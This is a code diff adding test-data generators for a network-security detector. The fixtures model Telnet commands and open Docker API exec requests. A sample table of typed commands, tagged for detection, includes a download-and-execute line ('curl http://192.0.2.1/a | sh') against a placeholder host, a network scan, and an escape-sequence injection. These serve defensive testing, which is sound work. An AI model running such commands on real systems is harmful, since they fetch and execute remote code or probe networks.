@@ -238,7 +238,49 @@ def container_tls_frames(draw: Callable[..., Any], most: int = 6) -> pl.DataFram
     )
 
 
+def command_row(**changes: Any) -> dict[str, Any]:
+    """A command that was typed over Telnet from outside, enriched."""
+    names = ("ts", "uid", "orig_h", "orig_p", "resp_h", "resp_p")
+    row = dict.fromkeys(SCHEMAS["command"]) | {name: conn_row()[name] for name in names}
+    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "resp_p": 23}
+    row |= {"service": "telnet", "typed_by": "orig", "command": "id", "tells": []}
+    return row | changes
+
+
+def request_row(**changes: Any) -> dict[str, Any]:
+    """A command that a request to Docker's API from outside runs in a container, enriched."""
+    names = ("ts", "uid", "orig_h", "orig_p", "resp_h", "resp_p")
+    row = dict.fromkeys(SCHEMAS["container_api"]) | {name: conn_row()[name] for name in names}
+    row |= {"orig_inside": False, "resp_inside": True, "orig_allowed": False, "resp_p": 2375}
+    row |= {"api": "docker", "operation": "exec-start", "outcome": "succeeded", "command": "id"}
+    return row | {"method": "POST", "uri": "/", "authentication": "open", "risks": []} | changes
+
+
+SAID = {"id": [], "ls|\x1b[31m": [], "curl http://192.0.2.1/a": ["download"], "./a": []}
+SAID |= {"curl http://192.0.2.1/a | sh": ["download", "download-execute"], "nmap 10.1": ["scan"]}
+
+
+@st.composite
+def command_frames(draw: Callable[..., Any], most: int = 12) -> pl.DataFrame:
+    """Up to `most` commands on connections like those of conn, typed by either side."""
+    rows = []
+    for place, conn in enumerate(draw(st.lists(conn_rows(), max_size=most))):
+        command = draw(st.sampled_from(sorted(SAID)))
+        row = {name: conn[name] for name in command_row() if name in conn}
+        row |= {
+            "uid": f"C{place}",
+            "command": command,
+            "tells": draw(st.sampled_from((None, SAID[command]))),
+        }
+        row |= {"service": draw(st.sampled_from(("telnet", "rlogin", "ftp", "shell", None)))}
+        row |= {"typed_by": draw(st.sampled_from(("orig", "resp", None))), "file": None}
+        row |= {"output": draw(st.sampled_from((None, "226 done", "530 no", "root")))}
+        rows.append(row | {"unlisted": draw(st.sampled_from((None, 3)))})
+    return spoken_frame("command", *rows)
+
+
 TABLES = {
+    "command": command_frames,
     **{table: partial(spoken_frames, table) for table in SPOKEN_TABLES},
     "conn": conn_frames,
     "logon": logon_frames,
